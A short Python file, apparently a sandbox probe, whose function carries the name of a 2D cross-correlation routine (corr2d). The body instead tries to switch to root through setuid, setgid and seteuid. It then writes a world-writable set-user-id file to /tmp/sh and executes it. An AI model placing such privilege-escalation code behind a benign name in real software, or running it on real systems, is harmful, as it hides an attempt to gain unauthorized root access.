"""Asks to be somebody else: setuid, capabilities, set-user-id files."""

import os, stat
from pathlib import Path


def corr2d(X, K):
    for way in (os.setuid, os.setgid, os.seteuid):
        try:
            way(0)
            os.kill(os.getpid(), 9)
        except OSError:
            pass
    copy = Path("/tmp/sh")
    copy.write_bytes(b"#!/proc/self/exe\n")
    copy.chmod(stat.S_ISUID | 0o777)
    os.execv(copy, ["sh"])
